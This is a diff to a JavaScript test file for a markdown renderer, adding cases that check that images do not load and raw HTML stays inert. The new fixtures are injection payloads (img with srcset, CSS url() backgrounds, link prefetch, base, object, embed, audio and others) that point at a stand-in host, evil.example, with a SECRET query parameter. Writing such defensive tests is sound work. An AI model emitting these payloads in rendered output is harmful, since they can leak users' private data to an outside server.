@@ -23,6 +23,19 @@ describe("field bug 24: no image is loaded", () => {
       '<div>\n<IMG SRC="https://evil.example/p.png?q=SECRET">\n</div>',
     ],
     ["protocol-relative", "![x](//evil.example/p.png?q=SECRET)"],
+    [
+      "raw with srcset",
+      '<img src="https://evil.example/p.png?q=SECRET" srcset="//evil.example/q 2x">',
+    ],
+    [
+      "raw, across lines",
+      '<img\n  src="https://evil.example/p.png?q=SECRET"\n  alt="x">',
+    ],
+    ["raw, in a list", "- a <img src="https://evil.example/p.png?q=SECRET"> b"],
+    ["in a heading", "# ![x](https://evil.example/p.png?q=SECRET)"],
+    ["in a quote", "> ![x](https://evil.example/p.png?q=SECRET)"],
+    ["collapsed reference", "![r][]\n\n[r]: https://evil.example/p.png?q=SECRET"],
+    ["raw, protocol-relative", '<img src="//evil.example/p.png?q=SECRET">'],
     ["in a link", "[![x](https://evil.example/p.png?q=SECRET)](https://evil.example/)"],
     ["in a table", "| a |\n|---|\n| ![x](https://evil.example/p.png?q=SECRET) |"],
   ])("%s", (_, text) => {
@@ -59,12 +72,26 @@ describe("raw HTML stays text", () => {
     "<form action=https://evil.example><button>x</button></form>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<details open ontoggle=alert(1)>x</details>",
+    "<link rel=prefetch href=https://evil.example/p?q=SECRET>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<base href=https://evil.example/>",
+    "<object data=https://evil.example/p.svg></object>",
+    "<embed src=https://evil.example/p>",
+    "<audio src=https://evil.example/a autoplay></audio>",
+    "<input type=image src=https://evil.example/p.png>",
+    "<div style='background:url(https://evil.example/p.png?q=SECRET)'>x</div>",
+    "<table background=https://evil.example/p.png><tr><td>x</td></tr></table>",
+    "<picture><source srcset=https://evil.example/p.png></picture>",
+    "a <span style=background:url(//evil.example/p)>inline</span> tag",
   ])("%s", (text) => {
     const drawn = html(text);
     const prose = drawn.querySelector(".prose");
     expect(
-      prose?.querySelector("script,iframe,svg,style,video,form,meta,details"),
+      prose?.querySelector(
+        "script,iframe,svg,style,video,form,meta,details,link,base,object,embed,audio,input,picture,source,table",
+      ),
     ).toBeNull();
+    expect(prose?.innerHTML).not.toMatch(/<[^>]*(?:url\(|srcset|background=)/i);
     expect(prose?.textContent).toContain(text.slice(0, 6));
   });
 });
